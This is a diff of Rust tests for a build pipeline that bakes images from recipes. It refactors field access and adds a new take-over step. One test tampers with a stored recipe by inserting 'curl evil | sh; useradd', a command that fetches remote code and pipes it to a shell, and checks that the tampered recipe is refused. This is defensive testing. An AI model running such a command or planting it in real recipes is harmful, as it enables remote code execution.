@@ -3,15 +3,16 @@
 use futures::executor::block_on;
 use ovenbird_core::{
     domain::{
-        bake::{Bake, Status, To},
+        bake::{Document, Status, To},
         digest::{self, sha256},
         trigger::Trigger,
     },
-    store::{Ledger, keys, recipes::RecipePointer},
+    steps::launch_builder,
+    store::{keys, recipes::RecipePointer},
 };
 use serde_json::json;
 
-use super::bench::{Bench, RECIPE, pipeline};
+use super::bench::{Bench, RECIPE, pipeline, store};
 
 /// A recipe without an artifact, of this pipeline.
 fn recipe(pipeline: &str) -> String {
@@ -36,9 +37,9 @@ fn two_pipelines_with_one_recipe_make_two_images() {
         assert_eq!(bake.next.to, To::Await, "{name} has a builder of its own");
         bench.finish(bench.build(bake, 0, true).unwrap()).unwrap()
     });
-    assert_eq!(ours.inputs, theirs.inputs);
-    assert_eq!((ours.status, theirs.status), (Status::Promoted, Status::Promoted));
-    assert_ne!(ours.image, theirs.image);
+    assert_eq!(ours.spec.inputs, theirs.spec.inputs);
+    assert_eq!((ours.progress.status, theirs.progress.status), (Status::Promoted, Status::Promoted));
+    assert_ne!(ours.progress.image, theirs.progress.image);
     bench.assert_clean(2);
 }
 
@@ -102,7 +103,7 @@ fn a_recipe_that_was_pushed_before_versions_changed_is_still_baked() {
         ..RecipePointer::new(text, None)
     };
     bench.push_as(RECIPE, &first(RECIPE, ""));
-    assert_eq!(bench.bake("old", &bench.upload("v1.jar")).status, Status::Promoted);
+    assert_eq!(bench.bake("old", &bench.upload("v1.jar")).progress.status, Status::Promoted);
     // The text of one with files, taken for a whole text: it names a file, and has none.
     let script =
         RECIPE.replace("shell = \"useradd --system --no-create-home storefront\"", "script = \"a.sh\"");
@@ -112,7 +113,7 @@ fn a_recipe_that_was_pushed_before_versions_changed_is_still_baked() {
 }
 
 /// A bake that waits for its twin, whose recipe is read again when it takes over.
-fn waiting(bench: &Bench) -> Bake {
+fn waiting(bench: &Bench) -> Document {
     let trigger = bench.upload("v1.jar");
     bench.start("first", &trigger).unwrap();
     let twin = bench.start("one", &trigger).unwrap();
@@ -125,9 +126,9 @@ fn waiting(bench: &Bench) -> Bake {
 fn a_text_that_was_changed_between_resolving_and_launching_is_refused() {
     let bench = Bench::new();
     let twin = waiting(&bench);
-    let key = keys::recipe(&pipeline(), &twin.recipe);
+    let key = keys::recipe(&pipeline(), &twin.bake.spec.recipe);
     bench.cloud.put(&key, RECIPE.replace("useradd", "curl evil | sh; useradd"));
-    let error = block_on(bench.hands().resume(twin, bench.cloud.now())).unwrap_err();
+    let error = block_on(launch_builder::take_over(twin, &bench.cloud, bench.cloud.now())).unwrap_err();
     assert_eq!(error.name(), "BadRecipe");
     assert_eq!(bench.instances(), 0);
 }
@@ -142,12 +143,12 @@ fn a_plan_of_other_steps_tests_or_files_than_the_digest_s_is_refused() {
         let mut twin = waiting(&bench);
         let other = digest::sha256(b"other");
         match what {
-            0 => twin.inputs.configuration = other,
-            1 => twin.inputs.tests = other,
-            _ => twin.inputs.files = Some(other),
+            0 => twin.bake.spec.inputs.configuration = other,
+            1 => twin.bake.spec.inputs.tests = other,
+            _ => twin.bake.spec.inputs.files = Some(other),
         }
-        block_on(Ledger(&bench.cloud).save(&twin)).unwrap();
-        let error = block_on(bench.hands().resume(twin, bench.cloud.now())).unwrap_err();
+        store(&bench.cloud, &twin.bake);
+        let error = block_on(launch_builder::take_over(twin, &bench.cloud, bench.cloud.now())).unwrap_err();
         assert_eq!(error.name(), "BadRecipe", "{words}");
         assert!(error.to_string().contains(words), "{error}");
         assert_eq!(bench.instances(), 0);
